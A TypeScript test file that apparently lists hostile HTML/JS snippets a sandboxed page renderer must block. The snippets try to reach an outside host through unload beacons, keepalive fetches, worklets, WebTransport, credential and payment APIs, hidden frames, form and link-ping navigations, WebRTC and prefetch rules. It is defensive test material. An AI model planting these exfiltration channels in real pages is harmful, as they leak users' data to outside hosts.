import { attempts, module, script, type HostileAttempt, type Way } from "./attempt";

/** What a page sends while it goes away: the renderer leaves it for an empty page after its picture was taken. */
const leaving: readonly Way[] = [
  [
    "beacon at pagehide",
    (to) => script(`addEventListener("pagehide",()=>navigator.sendBeacon("${to}/b","x"))`),
  ],
  [
    "beacon when hidden",
    (to) => script(`addEventListener("visibilitychange",()=>navigator.sendBeacon("${to}/b","x"))`),
  ],
  [
    "fetch at unload",
    (to) =>
      script(
        `addEventListener("unload",()=>fetch("${to}/u",{keepalive:true,mode:"no-cors"}).catch(()=>0))`,
      ),
  ],
  [
    "picture at beforeunload",
    (to) => script(`addEventListener("beforeunload",()=>{new Image().src="${to}/u"})`),
  ],
  ["fetchLater", (to) => script(`try{fetchLater("${to}/later",{activateAfter:0})}catch{}`)],
  ["endless beacons", (to) => script(`setInterval(()=>navigator.sendBeacon("${to}/b","x"),5)`)],
];

/** Ways of scripts besides the common ones. */
const scripts: readonly Way[] = [
  [
    "XMLHttpRequest that waits",
    (to) =>
      script(`try{const x=new XMLHttpRequest();x.open("GET","${to}/a",false);x.send()}catch{}`),
  ],
  ["import()", (to) => script(`import("${to}/a.js").catch(()=>0)`)],
  [
    "import map",
    (to) =>
      `<script type=importmap>{"imports":{"a":"${to}/a.js"}}</script><script type=module>import "a"</script><p>x`,
  ],
  ["document.write", (to) => script(`document.write('<scr'+'ipt src="${to}/a.js"></scr'+'ipt>')`)],
  ["FontFace", (to) => script(`new FontFace("f","url(${to}/f.woff2)").load().catch(()=>0)`)],
  ["Audio", (to) => script(`new Audio("${to}/a.mp3").play().catch(()=>0)`)],
  [
    "WebSocketStream",
    (to) =>
      script(`try{new WebSocketStream("${to.replace("http", "ws")}/").opened.catch(()=>0)}catch{}`),
  ],
  [
    "WebTransport",
    (to) =>
      script(
        `try{const t=new WebTransport("${to.replace("http:", "https:")}/");t.ready.catch(()=>0);t.closed.catch(()=>0)}catch{}`,
      ),
  ],
  ["paint worklet", (to) => script(`CSS.paintWorklet?.addModule("${to}/a.js").catch(()=>0)`)],
  [
    "audio worklet",
    (to) => module(`await new OfflineAudioContext(1,1,8000).audioWorklet.addModule("${to}/a.js")`),
  ],
  ["shared storage", (to) => module(`await sharedStorage.worklet.addModule("${to}/a.js")`)],
  [
    "credentials",
    (to) =>
      script(
        `navigator.credentials?.get({identity:{providers:[{configURL:"${to}/c.json",clientId:"1"}]}}).catch(()=>0)`,
      ),
  ],
  [
    "payment",
    (to) =>
      script(
        `try{new PaymentRequest([{supportedMethods:"${to}/pay"}],{total:{label:"x",amount:{currency:"EUR",value:"1"}}}).canMakePayment().catch(()=>0)}catch{}`,
      ),
  ],
  ["attribution", (to) => `<img attributionsrc="${to}/attr" src="data:image/gif,">`],
  [
    "media artwork",
    (to) =>
      script(
        `navigator.mediaSession.metadata=new MediaMetadata({title:"x",artwork:[{src:"${to}/a.png"}]})`,
      ),
  ],
  ["notification", (to) => script(`try{new Notification("x",{icon:"${to}/a.png"})}catch{}`)],
  [
    "fenced frame",
    (to) =>
      script(
        `try{const f=document.createElement("fencedframe");f.config=new FencedFrameConfig("${to}/f");document.body.append(f)}catch{}`,
      ),
  ],
  [
    "blob frame",
    (to) =>
      script(
        `const f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(['<img src="${to}/a.png">'],{type:"text/html"}));document.body.append(f)`,
      ),
  ],
  [
    "empty frame written into",
    (to) =>
      script(
        `const f=document.createElement("iframe");document.body.append(f);f.contentDocument.write('<img src="${to}/a.png">')`,
      ),
  ],
  ["frame by javascript:", (to) => `<iframe src='javascript:"<img src=${to}/a.png>"'></iframe>`],
];

/** Ways to leave the document besides the common ones. */
const navigations: readonly Way[] = [
  [
    "navigation.navigate",
    (to) =>
      script(
        `onload=()=>setTimeout(()=>{navigation.navigate("${to}/there").committed.catch(()=>0)},0)`,
      ),
  ],
  [
    "ping of a link",
    (to) => script(`document.write('<a id=a href="#x" ping="${to}/ping">x</a>');a.click()`),
  ],
  [
    "form in a new window",
    (to) =>
      script(`document.write('<form id=f target=_blank action="${to}/form"></form>');f.submit()`),
  ],
  [
    "form by requestSubmit",
    (to) =>
      script(
        `document.write('<form id=f action="${to}/form"><button></button></form>');f.requestSubmit()`,
      ),
  ],
  [
    "link of an SVG",
    (to) =>
      script(
        `document.write('<svg><a id=a href="${to}/link"><text>x</text></a></svg>');a.dispatchEvent(new MouseEvent("click"))`,
      ),
  ],
  [
    "frame that leaves",
    (to) => `<iframe srcdoc='<script>location="${to}/frame"</script>'></iframe>`,
  ],
  [
    "frame that leaves with its page",
    (to) => `<iframe srcdoc='<script>top.location="${to}/top"</script>'></iframe>`,
  ],
  [
    "refresh in a frame",
    (to) => `<iframe srcdoc='<meta http-equiv=refresh content="0;url=${to}/frame">'></iframe>`,
  ],
  [
    "window that is written into",
    (to) => script(`const w=open("about:blank");w&&w.document.write('<img src="${to}/a.png">')`),
  ],
  [
    "back to what was pushed",
    (to) =>
      script(
        `history.pushState(0,"","/a");onload=()=>{history.back();location.replace("${to}/there")}`,
      ),
  ],
];

const peers: readonly HostileAttempt[] = [
  {
    name: "WebRTC over TCP",
    html: (to) =>
      script(
        `const p=new RTCPeerConnection({iceServers:[{urls:"turn:${to.replace("http://", "")}?transport=tcp",username:"u",credential:"c"}],iceTransportPolicy:"relay"});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
      ),
    reported: undefined,
    reaches: "every",
  },
  {
    name: "WebRTC to a peer",
    html: (_, udpPort) =>
      script(
        `const p=new RTCPeerConnection();p.createDataChannel("x");p.createOffer().then(async o=>{await p.setLocalDescription(o);const sdp=o.sdp.replace("a=setup:actpass","a=setup:active");await p.setRemoteDescription({type:"answer",sdp});await p.addIceCandidate({candidate:"candidate:1 1 udp 2122260223 127.0.0.1 ${udpPort} typ host",sdpMid:"0",sdpMLineIndex:0})}).catch(()=>0)`,
      ),
    reported: undefined,
    reaches: "some",
  },
  {
    name: "prefetch by a rule with a document's links",
    html: (to) =>
      `<a href="${to}/next">x</a><script type="speculationrules">{"prefetch":[{"source":"document","where":{"href_matches":"${to}/*"},"eagerness":"immediate"}],"prerender":[{"source":"document","eagerness":"immediate"}]}</script>`,
    reported: undefined,
    reaches: "some",
  },
  {
    name: "prefetch through a proxy",
    html: (to) =>
      `<script type="speculationrules">{"prefetch":[{"urls":["${to}/next"],"requires":["anonymous-client-ip-when-cross-origin"],"eagerness":"immediate"}]}</script><p>x`,
    reported: undefined,
    reaches: "some",
  },
];

export const LATE_ATTEMPTS: readonly HostileAttempt[] = [
  ...attempts(leaving, undefined, {
    "beacon when hidden": "some",
    "fetch at unload": "some",
    fetchLater: "some",
  }).map((attempt) => ({ ...attempt, leaves: true })),
  ...attempts(scripts, undefined, {
    WebTransport: "some",
    WebSocketStream: "some",
    "shared storage": "some",
    credentials: "some",
    payment: "some",
    attribution: "some",
    "media artwork": "some",
    notification: "some",
    "fenced frame": "some",
  }),
  ...attempts(navigations, undefined, { "window that is written into": "some" }),
  ...peers,
];
